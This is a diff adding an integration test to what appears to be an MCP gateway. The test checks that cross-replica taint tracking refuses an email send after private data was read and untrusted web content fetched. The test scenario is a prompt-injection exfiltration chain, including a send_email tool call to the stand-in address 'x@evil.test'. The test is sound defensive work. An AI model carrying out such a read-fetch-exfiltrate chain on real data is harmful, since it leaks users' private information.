@@ -10,6 +10,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { Client as V2Client, StreamableHTTPClientTransport as V2Http } from '@modelcontextprotocol/client';
 import { CreateMessageRequestSchema, ResourceUpdatedNotificationSchema, ToolListChangedNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
 import { fixture, startTestGateway, type TestGateway } from '../helpers/gateway.js';
 import { createSchema, dropSchema, TEST_PG_URL, uniqueSchema } from '../../src/store/pg-testing.js';
@@ -168,6 +169,43 @@ describe('a session opened on one replica, served by another', () => {
       expect(((await r.json()) as { error: { data?: { code?: string } } }).error.data?.code).toBe('PCX_SESSION_REVOKED');
     }
     await client.close().catch(() => undefined);
+  });
+});
+
+describe('a per-request (2026-07-28) client spread over replicas', () => {
+  let schema: string;
+  let a: TestGateway;
+  let b: TestGateway;
+  beforeAll(async () => {
+    schema = uniqueSchema('pcx_fleet_v2');
+    await createSchema(schema);
+    const url = `${TEST_PG_URL}${TEST_PG_URL.includes('?') ? '&' : '?'}options=-c%20search_path%3D${schema}`;
+    a = await startTestGateway(fleetConfig(url));
+    b = await startTestGateway(fleetConfig(url));
+  });
+  afterAll(async () => {
+    await a?.close();
+    await b?.close();
+    if (schema) await dropSchema(schema);
+  });
+
+  it('its taint counts on every replica: private data on A, untrusted content on B, egress on A is refused', async () => {
+    const to = { replica: 'A' as 'A' | 'B' };
+    const urls = { A: a.url, B: b.url };
+    const fetchFn = (_: unknown, init?: RequestInit) => fetch(urls[to.replica], init);
+    const client = new V2Client({ name: 'fleet-v2', version: '1' }, { capabilities: {}, versionNegotiation: { mode: 'auto' } });
+    await client.connect(new V2Http(new URL(a.url), { fetch: fetchFn as typeof fetch }));
+    expect(client.getProtocolEra()).toBe('modern');
+    await client.callTool({ name: 'inj__read_private', arguments: {} });
+    to.replica = 'B';
+    await client.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/' } });
+    to.replica = 'A';
+    const err = await client.callTool({ name: 'inj__send_email', arguments: { to: 'x@evil.test', body: 'data' } }).then(
+      (r) => (r as { isError?: boolean; content?: unknown }).isError ? JSON.stringify(r.content) : undefined,
+      (e: Error) => e.message,
+    );
+    expect(err).toMatch(/flow\.trifecta/);
+    await client.close();
   });
 });
 
